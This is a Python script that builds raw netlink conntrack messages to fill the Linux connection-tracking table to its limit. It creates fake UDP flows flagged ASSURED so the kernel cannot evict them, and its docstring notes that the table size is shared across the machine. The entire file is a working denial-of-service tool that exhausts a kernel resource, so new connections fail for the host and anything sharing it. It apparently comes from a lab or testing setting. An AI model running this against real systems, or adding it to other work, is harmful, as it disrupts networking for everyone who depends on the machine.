"""Fill the table of connection tracking of the namespace that this runs in, to the last entry.

Its size is the machine's, and no namespace may change it. The entries are of UDP, between addresses
that no lab has, and ASSURED, so that the kernel lets none go for a new one.

Source: Linux, include/uapi/linux/netfilter/nfnetlink_conntrack.h.
"""

import socket
import struct
from pathlib import Path

IPCTNL_MSG_CT_NEW = 1 << 8
NLM_F_REQUEST, NLM_F_CREATE = 0x1, 0x400
NLA_F_NESTED = 0x8000
STATUS = 0x2 | 0x4 | 0x8
"""IPS_SEEN_REPLY, IPS_ASSURED, and IPS_CONFIRMED, without which the kernel takes no entry."""
BATCH = 150
"""Entries in one message to the kernel."""


def attribute(kind: int, value: bytes) -> bytes:
    """Return one attribute, padded."""
    return struct.pack("=HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


def tuple_of(kind: int, ends: tuple[str, int], others: tuple[str, int]) -> bytes:
    """Return CTA_TUPLE_ORIG or CTA_TUPLE_REPLY of IPv4 and UDP."""
    addresses = attribute(1, socket.inet_aton(ends[0])) + attribute(2, socket.inet_aton(others[0]))
    ports = attribute(2, struct.pack(">H", ends[1])) + attribute(3, struct.pack(">H", others[1]))
    protocol = attribute(1, bytes([socket.IPPROTO_UDP])) + ports
    inside = attribute(NLA_F_NESTED | 1, addresses) + attribute(NLA_F_NESTED | 2, protocol)
    return attribute(NLA_F_NESTED | kind, inside)


def entry(number: int) -> bytes:
    """Return the request for one entry; each number has addresses or ports of its own."""
    caller = f"192.0.2.{number >> 16 & 0xFF}", number & 0xFFFF or 1
    called = "203.0.113.254", 9 + (number & 0xFFFF == 0)
    body = (
        struct.pack(">BBH", socket.AF_INET, 0, 0)
        + tuple_of(1, caller, called)
        + tuple_of(2, called, caller)
        + attribute(3, struct.pack(">I", STATUS))
        + attribute(7, struct.pack(">I", 600))
    )
    flags = NLM_F_REQUEST | NLM_F_CREATE
    return struct.pack("=IHHII", 16 + len(body), IPCTNL_MSG_CT_NEW, flags, 0, 0) + body


def main() -> None:
    """Make entries until there is no room."""
    counted = Path("/proc/sys/net/netfilter/nf_conntrack_count")
    most = int(Path("/proc/sys/net/netfilter/nf_conntrack_max").read_text())
    number = 0
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as netlink:
        netlink.bind((0, 0))
        while (left := most - int(counted.read_text())) > 0:
            batch = range(number, number + min(BATCH, left))
            netlink.send(b"".join(map(entry, batch)))
            number = batch.stop
            if number > 2 * most:
                raise SystemExit(f"{counted.read_text()} of {most} after {number} requests")


if __name__ == "__main__":
    main()
